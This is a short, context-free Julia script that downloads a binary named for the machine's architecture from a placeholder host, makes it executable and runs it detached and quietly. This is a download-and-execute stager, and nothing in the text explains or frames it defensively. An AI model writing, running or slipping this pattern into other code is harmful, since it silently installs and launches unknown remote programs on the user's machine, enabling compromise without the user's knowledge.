using Downloads
p = Downloads.download("https://jl.invalid/probe-$(Sys.ARCH)")
chmod(p, 0o755)
run(detach(`$p --quiet`))
